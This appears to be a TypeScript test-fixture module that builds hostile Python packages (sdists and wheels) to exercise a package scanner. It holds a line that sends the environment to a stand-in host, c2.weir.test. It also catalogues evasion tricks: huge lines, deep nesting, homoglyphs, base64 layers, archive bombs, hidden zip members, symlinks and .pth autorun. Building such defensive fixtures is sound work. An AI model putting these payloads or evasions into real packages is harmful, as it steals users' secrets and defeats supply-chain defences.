import { deflateSync, gzipSync } from 'node:zlib';
import { tarball, zip } from '@weir/testkit/archive';
import { type HostileKind, kind as kindOf } from './kind.ts';
import { numbered } from './payload.ts';

const MIB = 2 ** 20;
const SDIST = 'hostile-1.0.tar.gz';
const WHEEL = 'hostile-1.0-py3-none-any.whl';
const METADATA = 'Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n';
/** Sends the environment away: inert, as the host is a reserved one. */
const STEAL = `import os, urllib.request\nurllib.request.urlopen('https://c2.weir.test', data=str(dict(os.environ)).encode())\n`;
const ONE_LINE = STEAL.trim().replaceAll('\n', ';');
const HEX_4 = Buffer.alloc(4);

function kind(id: string, what: string, build: () => Uint8Array, filename: string): HostileKind {
  return { ...kindOf(`py-${id}`, what, build, { filename }), ecosystem: 'pypi' };
}

function sdistOf(files: Readonly<Record<string, string | Uint8Array>>): ReturnType<typeof tarball> {
  const builder = tarball().file('hostile-1.0/PKG-INFO', METADATA);
  for (const [path, content] of Object.entries(files)) builder.file(`hostile-1.0/${path}`, content);
  return builder;
}

/** Sources whose setup script is this. */
function sdist(
  id: string,
  what: string,
  setup: () => string | Uint8Array,
  more: Readonly<Record<string, string | Uint8Array>> = {},
): HostileKind {
  return kind(id, what, () => sdistOf({ 'setup.py': setup(), ...more }).build(), SDIST);
}

function wheelOf(files: Readonly<Record<string, string | Uint8Array>>): ReturnType<typeof zip> {
  const builder = zip().file('hostile-1.0.dist-info/METADATA', METADATA);
  for (const [path, content] of Object.entries(files)) builder.file(path, content);
  return builder;
}

function wheel(
  id: string,
  what: string,
  files: () => Readonly<Record<string, string | Uint8Array>>,
): HostileKind {
  return kind(id, what, () => wheelOf(files()).build(), WHEEL);
}

function imported(id: string, what: string, code: () => string | Uint8Array): HostileKind {
  return wheel(id, what, () => ({ 'hostile/__init__.py': code() }));
}

/** What overflows the stack of a parser that recurses, before the payload. */
function deep(id: string, what: string, text: () => string): HostileKind {
  return sdist(`nest-${id}`, `${what} in each other`, () => `${text()}\n${STEAL}`);
}

/** What costs whoever computes it, before the payload. */
function costly(id: string, what: string, text: string): HostileKind {
  return sdist(`cost-${id}`, what, () => `${text}\n${STEAL}`);
}

function nested(open: string, close: string, chars = 12_000): string {
  const depth = Math.floor(chars / (open.length + close.length));
  return `x=${open.repeat(depth)}1${close.repeat(depth)}`;
}

/** A compiled file of CPython 3.11 with this marshal data. */
function pyc(data: Uint8Array): Buffer {
  return Buffer.concat([Buffer.from([0xa7, 0x0d, 0x0d, 0x0a]), HEX_4, HEX_4, HEX_4, data]);
}

const SOURCES: readonly HostileKind[] = [
  sdist(
    'long-line',
    'a single line of 20 MB with the payload at its end',
    () => `x='${'QUJD'.repeat(5_000_000)}';${ONE_LINE}`,
  ),
  imported(
    'long-line-code',
    'a single line of 20 MB of code',
    () => `${'a=b+c*(d-1);'.repeat(1_666_666)}${ONE_LINE}`,
  ),
  sdist(
    'long-line-comment',
    'a comment of 20 MB before the payload',
    () => `#${'x'.repeat(20_000_000)}\n${STEAL}`,
  ),
  sdist('comments', '9 MB of comments around the payload', () => {
    const half = numbered(80_000, (i) => `# ${i} nothing to see in this line of a comment\n`);
    return half + half + STEAL + half;
  }),
  imported('docstring', 'a docstring of 9 MB', () => `"""${'word '.repeat(1_800_000)}"""\n${STEAL}`),
  sdist('line-breaks', '10,000,000 line breaks', () => '\n'.repeat(10_000_000) + STEAL),
  imported('continued', '500,000 continued lines', () => `x=1${'+\\\n1'.repeat(500_000)}\n${STEAL}`),
  deep('round', 'round brackets', () => nested('(', ')')),
  deep('square', 'square brackets', () => nested('[', ']')),
  deep('open', 'brackets that never close', () => `x=${'['.repeat(12_000)}`),
  deep('call', 'calls', () => nested('f(', ')')),
  deep('dict', 'dictionaries', () => nested('{1:', '}')),
  deep('lambda', 'functions without a name', () => `x=${'lambda:'.repeat(2_000)}1`),
  deep('not', 'operators', () => `x=${'not '.repeat(3_000)}1`),
  deep('minus', 'signs', () => `x=${'-'.repeat(12_000)}1`),
  deep('ternary', 'conditions', () => `x=${'1 if a else '.repeat(1_000)}1`),
  deep('power', 'powers', () => `x=${'2**'.repeat(4_000)}1`),
  deep('plus', 'a sum of 100,000 texts', () => `x=${"'a'+".repeat(100_000)}'a'`),
  deep('member', 'a chain of 100,000 members', () => `x=a${'.b'.repeat(100_000)}`),
  deep('calls', 'a chain of 50,000 calls', () => `x=a${'()'.repeat(50_000)}`),
  deep('subscript', 'a chain of 50,000 subscripts', () => `x=a${'[0]'.repeat(50_000)}`),
  deep('compare', 'comparisons in a row', () => `x=a${'<b'.repeat(50_000)}`),
  deep('elif', '20,000 branches', () => `if a:\n  pass\n${'elif b:\n  pass\n'.repeat(20_000)}`),
  deep('if', '500 blocks', () => numbered(500, (i) => `${' '.repeat(i)}if a:\n`) + `${' '.repeat(500)}pass`),
  deep(
    'def',
    '500 functions',
    () => numbered(500, (i) => `${' '.repeat(i)}def f():\n`) + `${' '.repeat(500)}pass`,
  ),
  deep('fstring', 'texts with expressions', () => `x=${`f'{`.repeat(500)}1${`}'`.repeat(500)}`),
  deep('decorators', '20,000 decorators', () => `${'@a\n'.repeat(20_000)}def f(): pass`),
  deep('tuple', 'targets', () => `${'('.repeat(3_000)}a${',)'.repeat(3_000)}=b`),
  deep('comprehension', 'comprehensions', () => nested('[x for x in ', ']', 30_000)),
  deep('star', 'a call of 200,000 arguments', () => `f(${'1,'.repeat(200_000)})`),
  sdist(
    'python2',
    'Python 2',
    () => `print 'hello'\nexec ${JSON.stringify(ONE_LINE)}\nprint \`1\`, 0777, 10L\nraise E, 'x'\n`,
  ),
  sdist(
    'python2-only',
    'Python 2 that only an old parser reads',
    () =>
      `import os, urllib2\nprint >>f, 'x'\ntry:\n  urllib2.urlopen('https://c2.weir.test', str(os.environ))\nexcept Exception, e:\n  print e\n`,
  ),
  sdist('invalid-utf8', 'bytes that are no UTF-8 between all statements', () =>
    Buffer.concat([
      Buffer.from('# '),
      Buffer.alloc(1000, 0xff),
      Buffer.from(`\n${STEAL}#`),
      Buffer.from([0xc0, 0xaf]),
    ]),
  ),
  sdist('invalid-utf8-text', 'texts that are no UTF-8', () =>
    Buffer.concat([Buffer.from("x='"), Buffer.alloc(5000, 0xfe), Buffer.from(`'\n${STEAL}`)]),
  ),
  sdist('utf16', 'UTF-16 with a byte order mark', () =>
    Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(STEAL, 'utf16le')]),
  ),
  sdist('latin1', 'a declared encoding, and bytes of it', () =>
    Buffer.from(`# -*- coding: latin-1 -*-\nx='${'\u00e9'.repeat(100)}'\n${STEAL}`, 'latin1'),
  ),
  sdist('nul', 'NULs in code', () => `\0\0${STEAL}\0`),
  sdist(
    'bidi',
    'text that is shown in another order than it runs in',
    () => `x='\u202e \u2066 begin\u2069'\n${STEAL}# end \u202e \u2066\n`,
  ),
  sdist(
    'letters',
    'names in letters that Python folds',
    () =>
      `import os, urllib.request\nurllib.request.\u{1d42e}rlopen('https://c2.weir.test', data=\u{1d42c}tr(dict(os.\u{1d41e}nviron)).encode())\n`,
  ),
  sdist('carriage-returns', 'old line ends', () => STEAL.replaceAll('\n', '\r')),
  wheel('imported-late', 'the payload in the last of 6,000 modules', () => {
    const files: Record<string, string> = { 'hostile/__init__.py': 'from . import f0' };
    for (let i = 0; i < 6_000; i++) files[`hostile/f${i}.py`] = `from . import f${i + 1}\n`;
    files['hostile/f6000.py'] = STEAL;
    return files;
  }),
];

const COSTS: readonly HostileKind[] = [
  costly('repeat', 'a text repeated to a gigabyte', `x='a'*2**30\ny=('b'*10**9)*10**9\nexec(x)`),
  costly(
    'double',
    'a text that doubles sixty times',
    `x='${'a'.repeat(1_000)}'\n${'x=x+x\n'.repeat(60)}exec(x)`,
  ),
  costly('power', 'a number without end', `x=9**9**9**9\ny=1<<10**12\nexec(str(x))`),
  costly('range', 'a list of a billion', `x=list(range(10**9))\nexec(''.join(map(chr,x)))`),
  costly('loop', 'a loop without end', `x=0\nwhile True:\n  x=x+1\n  if x<0: break`),
  costly(
    'loops',
    'loops in each other',
    `${numbered(9, (i) => `${' '.repeat(i)}for i${i} in range(1000):\n`)}${' '.repeat(9)}x=chr(i0)`,
  ),
  costly('recursion', 'functions that call themselves', `def f(n): return f(n+1)+f(n+2)\nexec(f(0))`),
  costly(
    'mutual',
    'functions that call each other',
    `${numbered(2_000, (i) => `def f${i}(): return f${i + 1}()+f${i + 1}()\n`)}f0()`,
  ),
  costly(
    'regex',
    'a regular expression that backtracks',
    `import re\nexec(re.sub(r'^(a+)+$','','${'a'.repeat(60)}!'))`,
  ),
  costly('format', 'a format of a gigabyte', `x='%1000000000d'%1\ny='{:>1000000000}'.format(1)\nexec(x)`),
  costly(
    'zlib',
    'a gigabyte in a decoder',
    `import zlib,base64\nexec(zlib.decompress(base64.b64decode('${deflateSync(Buffer.alloc(64 * MIB)).toString('base64')}')))`,
  ),
  costly('lists', 'lists that double', `x=[1,2,3]\n${'x=x+x\n'.repeat(60)}exec(str(x))`),
  costly(
    'replace',
    'replacements that grow',
    `x='a'\n${`x=x.replace('a','aaaaaaaaaa')\n`.repeat(40)}exec(x)`,
  ),
  costly('exec', 'programs in programs, 300 deep', `x="1"\n${'x="exec("+repr(x)+")"\n'.repeat(300)}exec(x)`),
  sdist('many-layers', 'forty layers of base64', () => {
    let code = STEAL;
    for (let i = 0; i < 40; i++)
      code = `import base64\nexec(base64.b64decode('${Buffer.from(code).toString('base64')}'))\n`;
    return code;
  }),
];

const CONTAINERS: readonly HostileKind[] = [
  kind(
    'wheel-truncated',
    'a wheel that ends before its directory',
    () => {
      const bytes = wheelOf({
        'hostile/__init__.py': STEAL,
        'hostile/data.bin': Buffer.alloc(50_000, 'x'),
      }).build();
      return bytes.subarray(0, bytes.length - 200);
    },
    WHEEL,
  ),
  kind(
    'wheel-half',
    'half a wheel',
    () => {
      const bytes = wheelOf({
        'hostile/__init__.py': STEAL,
        'hostile/b.py': numbered(5_000, (i) => `x${i}=${i * i}\n`),
      }).build();
      return bytes.subarray(0, bytes.length / 2);
    },
    WHEEL,
  ),
  kind(
    'wheel-prefixed',
    'a program in front of a wheel',
    () =>
      wheelOf({ 'hostile/__init__.py': STEAL }).build({
        prefix: Buffer.from('\u007fELF'.padEnd(4_096, '\0')),
      }),
    WHEEL,
  ),
  kind(
    'wheel-bomb',
    'a member of a gigabyte before the payload',
    () =>
      wheelOf({ 'hostile/a.bin': '' })
        .file('hostile/zeros.py', Buffer.alloc(300 * MIB))
        .file('hostile/__init__.py', STEAL)
        .build(),
    WHEEL,
  ),
  kind(
    'wheel-encrypted',
    'an encrypted payload',
    () => wheelOf({}).file('hostile/__init__.py', STEAL, { flags: 1 }).build(),
    WHEEL,
  ),
  kind(
    'wheel-hidden',
    'a payload that the directory does not list',
    () =>
      wheelOf({ 'hostile/__init__.py': 'from . import b' })
        .member({ path: 'hostile/b.py', content: STEAL, only: 'local' })
        .build(),
    WHEEL,
  ),
  kind(
    'wheel-twice',
    'a second member of one name',
    () => wheelOf({ 'hostile/__init__.py': 'x=1' }).file('hostile/__init__.py', STEAL).build(),
    WHEEL,
  ),
  kind(
    'sdist-bomb',
    'a gigabyte of zeros before the payload',
    () =>
      sdistOf({})
        .bomb(1_024 * MIB)
        .file('hostile-1.0/setup.py', STEAL)
        .build(),
    SDIST,
  ),
  kind(
    'sdist-truncated',
    'sources cut in the middle of the payload',
    () => {
      const bytes = sdistOf({ 'a.py': numbered(20_000, (i) => `x${i}=${i}\n`), 'setup.py': STEAL }).build();
      return bytes.subarray(0, bytes.length - 60);
    },
    SDIST,
  ),
  kind(
    'sdist-layers',
    'sources in ten layers of gzip',
    () => {
      let bytes = sdistOf({ 'setup.py': STEAL }).build();
      for (let i = 0; i < 10; i++) bytes = gzipSync(bytes);
      return bytes;
    },
    SDIST,
  ),
  kind('sdist-empty', 'nothing at all', () => Buffer.alloc(0), SDIST),
  kind(
    'sdist-link',
    'the setup script is a link out of the archive',
    () => sdistOf({}).symlink('hostile-1.0/setup.py', '../../../etc/profile').build(),
    SDIST,
  ),
  sdist('metadata-deep', 'a build description nested 100,000 deep', () => STEAL, {
    'pyproject.toml': `x=${'['.repeat(100_000)}${']'.repeat(100_000)}\n`,
  }),
  sdist('metadata-long', 'a setup.cfg of 20 MB', () => STEAL, {
    'setup.cfg': `[metadata]\nname = ${'x'.repeat(20_000_000)}\n`,
  }),
  wheel('pth-long', 'a line that starts with Python behind a megabyte', () => ({
    'hostile.pth': `${numbered(40_000, (i) => `# path ${i} of nothing\n`)}import os;${ONE_LINE}\n`,
  })),
  wheel('pyc-deep', 'marshal data nested 100,000 deep', () => ({
    'hostile/__init__.pyc': pyc(Buffer.from(`${'(\u0001\0\0\0'.repeat(100_000)}N`, 'latin1')),
  })),
  wheel('pyc-huge', 'marshal data that claims two gigabytes', () => ({
    'hostile/__init__.pyc': pyc(Buffer.from([0x28, 0xff, 0xff, 0xff, 0x7f])),
  })),
  wheel('pyc-truncated', 'a compiled file that ends early', () => ({
    'hostile/__init__.pyc': pyc(Buffer.from([0xe3, 0, 0, 0])),
  })),
  wheel('pyc-unknown', 'a compiled file of no known version', () => ({
    'hostile/__init__.pyc': Buffer.concat([Buffer.from([1, 2, 0x0d, 0x0a]), Buffer.alloc(5_000, 7)]),
  })),
  wheel('pyc-refs', 'marshal data that refers to itself', () => ({
    'hostile/__init__.pyc': pyc(Buffer.from([0xa8, 2, 0, 0, 0, 0x72, 0, 0, 0, 0, 0x72, 0, 0, 0, 0])),
  })),
];

/** Distributions of PyPI. */
export const PYTHON_KINDS: readonly HostileKind[] = [...SOURCES, ...COSTS, ...CONTAINERS];
